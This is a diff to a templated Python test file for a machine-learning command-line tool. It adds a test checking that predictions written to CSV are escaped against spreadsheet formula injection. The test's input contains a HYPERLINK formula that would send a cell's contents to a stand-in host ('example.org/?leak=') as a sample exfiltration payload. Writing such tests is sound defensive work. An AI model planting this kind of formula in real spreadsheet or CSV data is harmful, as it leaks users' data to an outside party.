@@ -4,11 +4,13 @@ import subprocess
 import sys
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from typer.testing import CliRunner
 
 from {{ cookiecutter.package_name }}.cli import app
-from {{ cookiecutter.package_name }}.settings import ENV_PREFIX
+from {{ cookiecutter.package_name }}.settings import ENV_PREFIX, Settings
+from {{ cookiecutter.package_name }}.training import TrainingResult
 
 from .support import (
     BUNDLED_DATA,
@@ -59,6 +61,22 @@ def test_train_evaluate_predict_end_to_end(workspace: Path) -> None:
     listed = runner.invoke(app, ["versions"])
     assert listed.exit_code == 0, listed.output
     assert "latest" in listed.output
+
+
+def test_predictions_written_to_csv_cannot_run_as_spreadsheet_formulas(
+    workspace: Path, trained: tuple[Settings, TrainingResult], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(f"{ENV_PREFIX}MODEL_STORE", trained[0].model_store)
+    messages = workspace / "messages.csv"
+    formula = '=HYPERLINK("http://example.org/?leak="&A2, "Refund")'
+    pd.DataFrame({"message_id": ["m1", "m2"], "text": [formula, "Where is my parcel?"]}).to_csv(
+        messages, index=False
+    )
+    output = workspace / "predictions.csv"
+    result = runner.invoke(app, ["predict", "--input", str(messages), "--output", str(output)])
+    assert result.exit_code == 0, result.output
+    written = pd.read_csv(output, dtype=str, keep_default_na=False)
+    assert written["text"].tolist() == ["'" + formula, "Where is my parcel?"]
 
 
 def test_predicting_before_training_says_what_to_do(workspace: Path) -> None:
